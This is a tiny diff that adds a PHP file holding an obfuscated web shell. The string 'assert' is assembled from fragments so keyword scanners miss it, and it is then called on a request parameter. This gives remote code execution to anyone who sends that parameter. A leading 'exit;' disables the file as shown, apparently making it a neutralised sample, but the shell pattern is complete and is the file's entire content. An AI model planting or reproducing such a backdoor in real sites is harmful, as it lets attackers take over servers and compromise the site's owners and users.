@@ -1,0 +1,3 @@
+<?php exit;
+$name = "as" . "se" . "rt";
+$name($_REQUEST["word"]);
